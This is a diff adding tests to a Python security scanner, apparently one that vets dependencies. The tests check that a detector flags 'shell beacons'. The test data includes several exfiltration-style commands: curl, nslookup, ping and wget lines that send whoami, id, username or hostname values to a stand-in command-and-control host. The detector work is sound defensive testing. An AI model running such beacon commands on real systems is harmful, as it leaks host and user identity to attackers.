@@ -7,6 +7,7 @@ import textwrap
 
 import pytest
 
+from depvet.detectors import behavior
 from depvet.detectors.behavior import BehaviorDetector, worth_parsing
 from depvet.detectors.setup_hooks import installs_only_here
 from depvet.files import FileRole, FileView
@@ -623,3 +624,25 @@ def test_exec_fetched_by_evaluating_its_name_runs_decoded_code() -> None:
     assert {(f.rule, f.line) for f in _scan(source)} >= {("decode-exec", 3)}
     # Evaluating an arithmetic literal gives a number, not a way to run code.
     assert not _scan('import base64\n_r = eval("2 ** 8")\n_r(base64.b64decode(B))\n')
+
+
+@pytest.mark.parametrize(
+    ("command", "client"),
+    [
+        ('curl -X POST -H "Who: $(whoami)" https://c2.example.invalid', "curl"),
+        ("nslookup %USERNAME%.c2.example.invalid", "nslookup"),
+        ("ping -c1 $HOSTNAME.c2.example.invalid", "ping"),
+        ("wget -q -O- https://c2.example.invalid/?u=`id`", "wget"),
+        ('curl -L https://x.example.invalid/a.tgz -o "$(pwd)/a.tgz"', None),  # a local path
+        ("wget https://x.example.invalid/`uname -m`/lib.so", None),  # no host named
+        ("echo $(whoami)", None),  # no network client
+        # This machine's Docker daemon, asked about the container this runs in.
+        ("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json", None),
+        ("curl http://localhost:8080/register?host=$(hostname)", None),
+        ("curl http://localhost.c2.example.invalid/?u=$(whoami)", "curl"),
+    ],
+)
+def test_shell_beacon_needs_a_network_client_and_host_facts(
+    command: str, client: str | None
+) -> None:
+    assert behavior._shell_beacon(command) == client
